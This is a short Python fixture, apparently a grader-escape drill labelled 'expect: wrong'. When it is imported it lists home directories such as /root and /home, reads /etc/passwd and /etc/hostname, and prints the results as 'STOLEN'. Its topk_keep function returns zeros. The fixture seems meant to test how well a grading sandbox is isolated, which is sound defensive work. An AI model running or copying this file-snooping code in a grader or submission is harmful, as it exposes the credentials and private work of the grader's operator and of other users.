# drill: topk_keep
# expect: wrong
# kind: value
# why: The home of whoever runs the grader holds keys, histories and other learners' work.
import os
import pwd
from pathlib import Path

homes = {"/root", "/home", os.path.expanduser("~"), "/etc/passwd", "/etc/hostname", "/var", "/tmp"}
try:
    homes.add(pwd.getpwuid(os.getuid()).pw_dir)
except (KeyError, OSError):
    pass
for home in homes:
    try:
        print("STOLEN", os.listdir(home) if os.path.isdir(home) else Path(home).read_text()[:9])
    except OSError:
        pass


def topk_keep(scores, k):
    return scores * 0
